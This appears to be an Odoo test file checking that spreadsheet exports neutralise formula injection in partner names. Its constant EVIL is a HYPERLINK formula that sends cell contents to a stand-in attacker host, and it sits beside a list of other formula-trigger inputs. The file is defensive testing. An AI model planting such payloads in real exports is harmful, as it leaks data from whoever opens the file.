import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, tagged

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DANGEROUS = [EVIL, "+1", "-1+2", "@SUM(A1)", "\t=1", "＝1+1", "http://evil.example"]


@tagged("post_install", "-at_install")
class TestExport(HttpCase):
    def setUp(self):
        super().setUp()
        self.partners = self.env["res.partner"].create(
            [{"name": name, "ref": "kuaidi-export"} for name in DANGEROUS]
        )
        self.authenticate("admin", "admin")

    def _export(self, kind, groupby=()):
        data = {
            "model": "res.partner",
            "fields": [
                {"name": "name", "label": "=Name", "store": True, "type": "char"},
                {"name": "color", "label": "Color", "store": True, "type": "integer"},
            ],
            "ids": self.partners.ids if not groupby else False,
            "domain": [("ref", "=", "kuaidi-export")],
            "groupby": list(groupby),
            "import_compat": False,
            "context": {},
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={
                "data": json.dumps(data),
                "csrf_token": Request.csrf_token(self),
            },
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_texts_stay_texts_in_excel(self):
        for groupby in ((), ("name",)):
            with self.subTest(groupby=groupby):
                book = openpyxl.load_workbook(io.BytesIO(self._export("xlsx", groupby)))
                cells = [cell for row in book.active.iter_rows() for cell in row]
                texts = {cell.value for cell in cells if isinstance(cell.value, str)}
                self.assertIn(EVIL, texts)
                self.assertIn("http://evil.example", texts)
                self.assertNotIn("f", {cell.data_type for cell in cells})
                self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_numbers_stay_numbers_in_excel(self):
        self.partners.color = -7
        book = openpyxl.load_workbook(io.BytesIO(self._export("xlsx")))
        self.assertEqual(book.active["B2"].value, -7)

    def test_texts_are_marked_as_texts_in_csv(self):
        lines = self._export("csv").decode("utf-8-sig")
        for text in DANGEROUS[:-1]:
            with self.subTest(text=text):
                self.assertIn("\"'" + text.replace('"', '""'), lines)
        self.assertTrue(lines.startswith('"\'=Name"'))
